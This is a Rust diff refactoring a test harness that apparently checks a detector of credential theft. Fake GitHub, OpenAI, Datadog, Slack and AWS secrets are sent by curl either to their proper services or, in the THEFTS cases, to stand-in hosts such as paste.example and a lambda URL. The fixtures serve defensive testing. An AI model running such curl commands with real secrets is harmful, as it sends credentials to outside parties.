@@ -98,12 +98,27 @@ impl JudgementLab {
         )
     }
 
-    /// As [`curl`](Self::curl), through the proxy, which resolves the name.
-    fn curl_by_proxy(&self, host: &str, header: &str) -> String {
+    /// A unit presents a secret of its environment, whose variable the header names.
+    fn present_variable(
+        &self,
+        unit: &TestUnit,
+        host: &str,
+        header: &str,
+        secret: String,
+    ) -> Result<String> {
+        let (_, variable) = header.rsplit_once('$').context("a variable")?;
+        unit.sh(&self.curl(host, header), &[(variable, &secret)])?;
+        Ok(secret)
+    }
+
+    /// A unit presents a token to a server of this name through the proxy, which resolves the name.
+    fn present_by_proxy(&self, unit: &TestUnit, host: &str, token: String) -> Result<String> {
         let (proxy, port) = (self.proxy.port, self.tls.address.port());
-        format!(
-            "curl -sSk -o /dev/null --proxy http://127.0.0.1:{proxy} --proxy-user fake:FakeProxy-{port} -H \"{header}\" https://{host}:{port}/"
-        )
+        let script = format!(
+            "curl -sSk -o /dev/null --proxy http://127.0.0.1:{proxy} --proxy-user fake:FakeProxy-{port} -H \"Authorization: Bearer {token}\" https://{host}:{port}/"
+        );
+        unit.sh(&script, &[])?;
+        Ok(token)
     }
 }
 
@@ -125,12 +140,7 @@ const HONEST: &[Setup] = &[
     Setup {
         name: "a GitHub token at GitHub, through a CONNECT proxy",
         raised: "",
-        run: |lab, unit| {
-            let token = fake("ghp_", 1);
-            let header = format!("Authorization: Bearer {token}");
-            unit.sh(&lab.curl_by_proxy("api.github.com", &header), &[])?;
-            Ok(token)
-        },
+        run: |lab, unit| lab.present_by_proxy(unit, "api.github.com", fake("ghp_", 1)),
     },
     Setup {
         name: "a key at the gateway that the unit's environment names",
@@ -153,9 +163,8 @@ const HONEST: &[Setup] = &[
         raised: "",
         run: |lab, unit| {
             let key = fake("sk-proj-", 3);
-            let script = lab.curl("llm.corp.example", "Authorization: Bearer $OPENAI_API_KEY");
-            unit.sh(&script, &[("OPENAI_API_KEY", &key)])?;
-            Ok(key)
+            let header = "Authorization: Bearer $OPENAI_API_KEY";
+            lab.present_variable(unit, "llm.corp.example", header, key)
         },
     },
     Setup {
@@ -176,9 +185,7 @@ const HONEST: &[Setup] = &[
         raised: "unexpected-hop medium",
         run: |lab, unit| {
             let key = fake("0123456789", 5);
-            let script = lab.curl("metrics.corp.example", "DD-API-KEY: $DD_API_KEY");
-            unit.sh(&script, &[("DD_API_KEY", &key)])?;
-            Ok(key)
+            lab.present_variable(unit, "metrics.corp.example", "DD-API-KEY: $DD_API_KEY", key)
         },
     },
     Setup {
@@ -186,9 +193,8 @@ const HONEST: &[Setup] = &[
         raised: "",
         run: |lab, unit| {
             let token = fake("xoxb-", 6);
-            let script = lab.curl("slack-gov.com", "Authorization: Bearer $SLACK_BOT_TOKEN");
-            unit.sh(&script, &[("SLACK_BOT_TOKEN", &token)])?;
-            Ok(token)
+            let header = "Authorization: Bearer $SLACK_BOT_TOKEN";
+            lab.present_variable(unit, "slack-gov.com", header, token)
         },
     },
 ];
@@ -197,12 +203,7 @@ const THEFTS: &[Setup] = &[
     Setup {
         name: "a GitHub token at another server, through a CONNECT proxy",
         raised: "unexpected-hop critical",
-        run: |lab, unit| {
-            let token = fake("ghp_", 101);
-            let header = format!("Authorization: Bearer {token}");
-            unit.sh(&lab.curl_by_proxy("paste.example", &header), &[])?;
-            Ok(token)
-        },
+        run: |lab, unit| lab.present_by_proxy(unit, "paste.example", fake("ghp_", 101)),
     },
     Setup {
         name: "a key at a gateway that only a child's environment names",
@@ -220,12 +221,8 @@ const THEFTS: &[Setup] = &[
         raised: "",
         run: |lab, unit| {
             let key = format!("AKIAFAKEJUDGED{:06}", 103);
-            let script = lab.curl(
-                "abcdef.lambda-url.eu-west-1.on.aws",
-                "X-Api-Key: $AWS_ACCESS_KEY_ID",
-            );
-            unit.sh(&script, &[("AWS_ACCESS_KEY_ID", &key)])?;
-            Ok(key)
+            let host = "abcdef.lambda-url.eu-west-1.on.aws";
+            lab.present_variable(unit, host, "X-Api-Key: $AWS_ACCESS_KEY_ID", key)
         },
     },
     Setup {
